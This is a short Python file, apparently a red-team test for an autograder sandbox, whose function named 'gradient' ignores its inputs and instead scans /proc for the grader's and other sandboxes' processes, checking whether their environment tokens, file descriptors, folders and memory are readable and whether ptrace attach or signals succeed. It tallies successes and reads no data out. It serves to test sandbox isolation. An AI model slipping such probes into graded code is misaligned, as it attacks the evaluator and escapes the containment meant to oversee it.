"""Hostile: the grader and other sandboxes through /proc (this session's attack 4).

For every process it can see that is not its own (the grader's, a zygote, bubblewrap,
another sandbox's server), it tries what published autograder attacks read: the
environment (tokens, paths), the open files, the working and root folders, the memory
and its map, a signal and ``ptrace``.  Returns how many processes it saw that are not
its own, and how many of those gave anything: environment, descriptors, folders,
memory, signals, ptrace.
"""

import ctypes
import os

import numpy as np

PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def _readable(path):
    try:
        if os.path.isdir(path) and not os.path.islink(path):
            return bool(os.listdir(path))
        if os.path.islink(path):
            os.listdir(path)
            return True
        with open(path, "rb") as handle:
            return bool(handle.read(64))
    except OSError:
        return False


def gradient(X, y, w):
    libc = ctypes.CDLL(None, use_errno=True)
    me = os.getuid()
    others = 0
    got = np.zeros(6, dtype=int)
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/status") as handle:
                uids = next(line.split()[1:] for line in handle if line.startswith("Uid:"))
        except (OSError, StopIteration):
            continue
        if str(me) in uids:
            continue  # its own processes
        others += 1
        got[0] += _readable(f"/proc/{name}/environ")
        got[1] += _readable(f"/proc/{name}/fd")
        got[2] += _readable(f"/proc/{name}/cwd") or _readable(f"/proc/{name}/root")
        got[3] += _readable(f"/proc/{name}/mem") or _readable(f"/proc/{name}/maps")
        try:
            os.kill(int(name), 0)
            got[4] += 1
        except OSError:
            pass
        if libc.ptrace(PTRACE_ATTACH, int(name), None, None) == 0:
            got[5] += 1
            libc.ptrace(PTRACE_DETACH, int(name), None, None)
    return np.array([others, *got])
